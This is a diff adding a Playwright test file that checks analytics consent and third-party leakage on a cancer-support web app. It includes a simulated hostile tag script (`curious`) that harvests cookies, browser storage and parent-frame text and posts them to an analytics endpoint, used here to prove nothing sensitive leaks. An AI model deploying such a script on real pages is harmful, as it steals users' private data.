@@ -1,0 +1,262 @@
+import { faultsAtDoubleText, faultsStanding, sizes } from '@kindred/rigs/walkers/accessibility.ts';
+import { pageOf, putOnDevice } from '@kindred/rigs/walkers/people.ts';
+import { newMember } from '@kindred/rigs/walkers/sign-in.ts';
+import { startProduct, type Product } from '@kindred/rigs/start-product.ts';
+import type { BrowserContext, Page } from 'playwright/test';
+import { arrivesAt, followsLink, sideways } from './fixtures/arrive.ts';
+import { expect, test } from './fixtures/people.ts';
+
+/** One more product, on which everything of others is switched on. */
+let product: Product;
+test.beforeAll(async () => {
+  product = await startProduct({
+    RATE_LIMIT_PER_MINUTE: '1000000',
+    SIGN_INS_PER_NETWORK: '1000000',
+    ANALYTICS_ID: 'G-FAKE',
+    TAG_MANAGER_CONTAINER: 'GTM-FAKE',
+    SUPPORT_CENTRE_FORM: 'form-1',
+    FORM_PAGE: 'https://forms.vendor.example/f/{form}',
+    FORM_VENDOR: 'Vendor Forms',
+  });
+});
+test.afterAll(() => product.stop());
+
+/** As curious as a script of others can be: it tells home all that it can see, and each event that it is given. */
+const curious = `(() => {
+  const seen = { address: location.href, title: document.title, referrer: document.referrer, text: document.documentElement.innerText };
+  for (const [name, look] of Object.entries({
+    cookie: () => document.cookie, storage: () => JSON.stringify({ ...localStorage }), session: () => JSON.stringify({ ...sessionStorage }),
+    parent: () => parent.document.body.innerText, parentAddress: () => parent.location.href, top: () => top.document.title,
+    ancestors: () => [...(location.ancestorOrigins ?? [])].join(),
+  })) try { seen[name] = String(look()); } catch (error) { seen[name] = error.name; }
+  const home = (what) => fetch('https://www.google-analytics.com/collect', { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify(what) });
+  void home({ seen });
+  const layer = window.dataLayer, push = layer.push.bind(layer);
+  for (const one of layer) void home({ pushed: [...(one.length === undefined ? [one] : one)] });
+  layer.push = (...all) => { for (const one of all) void home({ pushed: one.length === undefined ? [one] : [...one] }); return push(...all); };
+})();`;
+
+interface Sink {
+  /** Everything that went to anybody but us. */
+  asked: string[];
+}
+
+/** All the world but the product, played by us. */
+async function listens(context: BrowserContext): Promise<Sink> {
+  const asked: string[] = [];
+  const { origin } = new URL(product.baseUrl);
+  await context.route(
+    (url) => url.protocol.startsWith('http') && url.origin !== origin,
+    async (route) => {
+      const request = route.request();
+      asked.push(`${request.url()} ${request.headers()['referer'] ?? ''} ${request.postData() ?? ''}`);
+      const script = /\/(gtm\.js|gtag\/js)$/.test(new URL(request.url()).pathname);
+      if (script) return route.fulfill({ contentType: 'text/javascript', body: curious });
+      if (request.resourceType() === 'document')
+        return route.fulfill({ contentType: 'text/html', body: '<h1>A form of a vendor</h1>' });
+      return route.fulfill({ status: 204, body: '' });
+    },
+  );
+  return { asked };
+}
+
+const aWhile = 6_000;
+const main = [
+  '/welcome-page?welcome=1',
+  '/tabs/guest-landing',
+  '/tabs/learn',
+  '/tabs/learn/fatigue',
+  '/tabs/services',
+  '/tabs/services/lifeline',
+  '/tabs/connect',
+  '/tabs/connect/support-form',
+  '/tabs/tips',
+  '/tabs/upcoming_events',
+  '/energy-coach',
+  '/what-we-count',
+];
+/** Of those that are walked here. On the others nothing is to wait for. */
+const countedHere = /^\/(welcome-page|tabs\/(guest-landing|home|learn|services|tips|upcoming_events))/;
+const banner = (page: Page) => page.getByRole('region', { name: 'May others help us count?' });
+
+async function opens(page: Page, path: string, counts = countedHere.test(path)): Promise<void> {
+  await page.goto(product.baseUrl + path);
+  await arrivesAt(page, path);
+  const counted =
+    counts && page.waitForResponse((answer) => answer.url().endsWith('/counts'), { timeout: 10_000 });
+  await page.clock.fastForward(aWhile);
+  await counted;
+}
+
+async function visitor(context: BrowserContext): Promise<{ page: Page; sink: Sink }> {
+  const sink = await listens(context);
+  const page = await context.newPage();
+  await page.clock.install();
+  return { page, sink };
+}
+
+const events = ({ asked }: Sink) => asked.filter((one) => one.includes('"pushed"'));
+
+test('nobody but us is asked for anything before a yes: on every page of the crawl', async ({ context }) => {
+  test.setTimeout(120_000);
+  const { page, sink } = await visitor(context);
+  const counted: string[] = [];
+  page.on(
+    'request',
+    (request) => request.url().endsWith('/counts') && counted.push(request.postData() ?? ''),
+  );
+  for (const path of main) await opens(page, path);
+  await expect(banner(page)).toBeVisible();
+  process.stdout.write(
+    `figure: requests to others before a yes ${sink.asked.length} on ${main.length} pages\n`,
+  );
+  expect(sink.asked).toEqual([]);
+  expect(counted.length, 'we count ourselves').toBeGreaterThan(3);
+  expect(counted.filter((body) => /fatigue|lifeline/.test(body))).toEqual([]);
+});
+
+test('the question is small, covers nothing, and weighs both answers the same', async ({ context }) => {
+  test.setTimeout(90_000);
+  const { page, sink } = await visitor(context);
+  await opens(page, '/tabs/learn');
+  const [yes, no] = [
+    page.getByRole('button', { name: 'Yes, count' }),
+    page.getByRole('button', { name: 'No, thanks' }),
+  ];
+  await expect(yes).toBeVisible();
+  const look = (button: typeof yes) =>
+    button.evaluate((one) => {
+      const { backgroundColor, color, borderColor, fontSize, fontWeight, minHeight } = getComputedStyle(one);
+      return [backgroundColor, color, borderColor, fontSize, fontWeight, minHeight];
+    });
+  expect(await look(yes)).toEqual(await look(no));
+  for (const size of Object.values(sizes)) {
+    await page.setViewportSize(size);
+    expect(await faultsStanding(page)).toEqual([]);
+    expect(await sideways(page)).toBe(0);
+    await expect(page.getByRole('link', { name: 'Urgent help' }).first()).toBeInViewport();
+  }
+  expect(await faultsAtDoubleText(page)).toEqual([]);
+  expect(sink.asked).toEqual([]);
+});
+
+test('a no is kept, nobody is asked again, and nobody is asked where nothing is counted', async ({
+  context,
+}) => {
+  const { page, sink } = await visitor(context);
+  await opens(page, '/tabs/learn');
+  await expect(banner(page)).toBeVisible();
+  await followsLink(page, '/tabs/connect');
+  await arrivesAt(page, '/tabs/connect');
+  await expect(banner(page)).toHaveCount(0);
+  await followsLink(page, '/tabs/learn');
+  await arrivesAt(page, '/tabs/learn');
+  await page.getByRole('button', { name: 'No, thanks' }).click();
+  await expect(banner(page)).toHaveCount(0);
+  await opens(page, '/tabs/tips', false);
+  await expect(banner(page)).toHaveCount(0);
+  expect(sink.asked).toEqual([]);
+});
+
+test('after a yes others learn the kind of page in ten fields, and can see nothing else of it', async ({
+  browser,
+}) => {
+  test.setTimeout(120_000);
+  const marks = [
+    'zqfirstname',
+    'zqlastname',
+    'myeloma',
+    'palliative',
+    'fatigue',
+    'ballarat',
+    '3350',
+    'lifeline',
+    'kindred.example',
+  ];
+  const context = await browser.newContext({ baseURL: product.baseUrl });
+  const sink = await listens(context);
+  const page = await pageOf(context, 'guest');
+  await page.clock.install();
+  const account = await newMember(product.baseUrl, true, {
+    first_name: 'Zqfirstname',
+    last_name: 'Zqlastname',
+    answers: { relationship: 'patient', stage: 'palliative' },
+  });
+  await putOnDevice(page, 'member', {}, account);
+  // At registration they left the box empty: that is a no, and nobody asks them again.
+  await opens(page, '/tabs/learn', false);
+  await expect(banner(page)).toHaveCount(0);
+  await opens(page, '/what-we-count');
+  await page.getByRole('radio', { name: 'Yes, count' }).check();
+  await expect(page.getByText('Saved.')).toBeVisible();
+  for (const path of [
+    '/tabs/learn/myeloma',
+    '/tabs/services?location_filter=3350&services_filter=palliative-care',
+    '/tabs/services/lifeline',
+    '/tabs/home',
+  ]) {
+    const before = events(sink).length;
+    await opens(page, path);
+    await expect.poll(() => events(sink).length, { message: path }).toBeGreaterThan(before + 1);
+  }
+  const frame = page.locator('iframe[data-tags]');
+  await expect(frame).toHaveCount(1);
+  // On pages of one's own there is none, at once.
+  for (const path of ['/wellbeing', '/blood-cancer', '/tabs/connect', '/energy-coach', '/tabs/dashboard']) {
+    const before = sink.asked.length;
+    await opens(page, path);
+    await expect(frame).toHaveCount(0);
+    expect(sink.asked.slice(before)).toEqual([]);
+  }
+  const all = sink.asked.map((one) => decodeURIComponent(one).toLowerCase());
+  const leaked = all.filter((one) =>
+    [...marks, account.token.toLowerCase()].some((mark) => one.includes(mark)),
+  );
+  process.stdout.write(`figure: marks in requests to others ${leaked.length} of ${all.length} requests\n`);
+  expect(leaked).toEqual([]);
+  expect(all.filter((one) => one.includes('securityerror')).length, 'they did look').toBeGreaterThan(0);
+  const pushed = events(sink).find((one) => one.includes('services_filtered')) ?? '';
+  expect(pushed).toContain('"services_filter":"other"');
+  expect(pushed).toContain('"location_filter":"vic"');
+  expect(pushed).toMatch(/"user_id":"[0-9a-f-]{36}"/);
+  expect(pushed).not.toContain(String(account.profile['id']));
+
+  await opens(page, '/what-we-count');
+  await page.getByRole('radio', { name: 'No, do not count' }).check();
+  await expect(page.getByText('Saved.')).toBeVisible();
+  await expect(frame).toHaveCount(0);
+  const before = sink.asked.length;
+  await opens(page, '/tabs/tips', false);
+  expect(sink.asked.slice(before)).toEqual([]);
+  await context.close();
+});
+
+test('a browser that says no for all sites is believed', async ({ context }) => {
+  await context.addInitScript(() =>
+    Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }),
+  );
+  const { page, sink } = await visitor(context);
+  const counted: string[] = [];
+  page.on('request', (request) => request.method() === 'POST' && counted.push(request.url()));
+  await page.goto(`${product.baseUrl}/tabs/learn`);
+  await arrivesAt(page, '/tabs/learn');
+  await page.clock.fastForward(aWhile);
+  await opens(page, '/what-we-count');
+  await expect(page.getByText('Your browser asks every site not to follow you.')).toBeVisible();
+  await expect(banner(page)).toHaveCount(0);
+  expect([sink.asked, counted]).toEqual([[], []]);
+});
+
+test('a form of a vendor says whose it is, and loads with a tap and not before', async ({ context }) => {
+  const { page, sink } = await visitor(context);
+  await opens(page, '/tabs/connect/support-form');
+  await expect(
+    page.getByText('This form comes from Vendor Forms (forms.vendor.example), not from us.'),
+  ).toBeVisible();
+  expect(sink.asked).toEqual([]);
+  await page.getByRole('button', { name: 'Load the form of Vendor Forms' }).click();
+  await expect(
+    page.frameLocator('.k-vendor-form').getByRole('heading', { name: 'A form of a vendor' }),
+  ).toBeVisible();
+  expect(sink.asked).toEqual(['https://forms.vendor.example/f/form-1  ']);
+});
